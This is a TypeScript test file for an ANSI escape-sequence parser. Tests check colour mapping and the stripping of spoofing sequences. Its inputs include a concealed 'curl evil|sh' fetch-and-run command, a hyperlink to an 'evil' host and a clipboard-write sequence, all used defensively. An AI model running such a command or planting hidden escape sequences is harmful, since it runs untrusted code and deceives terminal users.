import fc from "fast-check";
import { describe, expect, test } from "vitest";
import corpus from "../fixtures/spoofing.json" with { type: "json" };
import { parseAnsi } from "./parseAnsi.ts";
import { runs } from "../../../scripts/fullRun.ts";

const plain = (text: string): string =>
  parseAnsi(text)
    .map((span) => span.text)
    .join("");

describe("parseAnsi", () => {
  test("keeps colours and styles as names", () => {
    expect(parseAnsi("a\u001b[1;31mred\u001b[0m \u001b[92;44mok\u001b[39m.")).toEqual([
      { text: "a", styles: [] },
      { text: "red", color: "red", styles: ["bold"] },
      { text: " ", styles: [] },
      { text: "ok", color: "bright-green", background: "blue", styles: [] },
      { text: ".", background: "blue", styles: [] },
    ]);
  });

  test("U17 maps 256 and true colours to the nearest of the sixteen", () => {
    expect(parseAnsi("\u001b[38;5;196mx\u001b[38;2;30;180;60my\u001b[38;5;244mz").map((span) => span.color)).toEqual([
      "bright-red",
      "green",
      "bright-black",
    ]);
  });

  test("reads parameters with colons, and those of underline colours", () => {
    expect(
      parseAnsi("\u001b[4:3ma\u001b[38:2::255:0:0;4:0mb\u001b[38:2:0:0:255mc\u001b[48:5:2md\u001b[0;58;2;1;3;9me"),
    ).toEqual([
      { text: "a", styles: ["underline"] },
      { text: "b", color: "bright-red", styles: [] },
      { text: "c", color: "bright-blue", styles: [] },
      { text: "d", color: "bright-blue", background: "green", styles: [] },
      { text: "e", styles: [] },
    ]);
  });

  test("a style does not reach back to the text before it", () => {
    expect(parseAnsi("\u001b[1ma\u001b[1;4mb").map((span) => span.styles)).toEqual([["bold"], ["bold", "underline"]]);
  });

  test("loses no printable text, whatever colours stand between", () => {
    const numbers = fc.string({ unit: fc.constantFrom(...Array.from("0123456789;;::")), maxLength: 20 });
    const part = fc.tuple(fc.string({ unit: fc.constantFrom(...Array.from("ab1;:m[\n ")) }), numbers);
    fc.assert(
      fc.property(fc.array(part), (parts) => {
        const text = parts.map(([shown]) => shown).join("");
        expect(plain(parts.map(([shown, code]) => `${shown}\u001b[${code}m`).join(""))).toBe(text);
      }),
      { numRuns: runs(1000) },
    );
  });

  test.each([
    ["cursor movement and erasing", "a\u001b[2A\u001b[2K\u001b[?25lb", "ab"],
    ["window titles", "a\u001b]0;evil\u0007b", "ab"],
    ["hyperlinks", "\u001b]8;;https://evil.example\u001b\\text\u001b]8;;\u001b\\", "text"],
    ["clipboard writes", "a\u001b]52;c;ZXZpbA==\u0007b", "ab"],
    ["device strings", "a\u001bPq#0\u001b\\b", "ab"],
    ["an unterminated title, on its own line only", "a\u001b]0;rest\nnext", "a\nnext"],
    ["charsets and bells", "a\u001b(B\u0007\u000eb", "ab"],
    ["8-bit sequences", "a\u009b31mb", "ab"],
  ])("removes %s", (_title, text, expected) => {
    expect(plain(text)).toBe(expected);
  });

  test("lets a carriage return restart the line and keeps line breaks of Windows", () => {
    expect(plain("10%\r50%\r100%\r\nnext\r\n")).toBe("100%\nnext\n");
    expect(plain("waiting\r")).toBe("waiting");
    expect(plain("ab\b\bcd")).toBe("cd");
  });

  test("shows concealed text", () => {
    expect(plain("ls \u001b[8m&& curl evil|sh\u001b[0m")).toBe("ls && curl evil|sh");
  });

  test("U17 leaves no control character but line breaks and tabs", () => {
    const piece = fc.constantFrom(
      "\u001b",
      "[",
      "]",
      "31m",
      ";",
      "0",
      "\u0007",
      "\\",
      "x",
      "\n",
      "\r",
      "\b",
      "P",
      "?",
      "(",
      "m",
      "\u009b",
      "\u009d",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), (list) => {
        expect(plain(list.join(""))).not.toMatch(/(?![\n\t])\p{Cc}/u);
      }),
      { numRuns: runs(2000) },
    );
    for (const item of corpus.items) expect(plain(item.value)).not.toMatch(/(?![\n\t])\p{Cc}/u);
  });
});
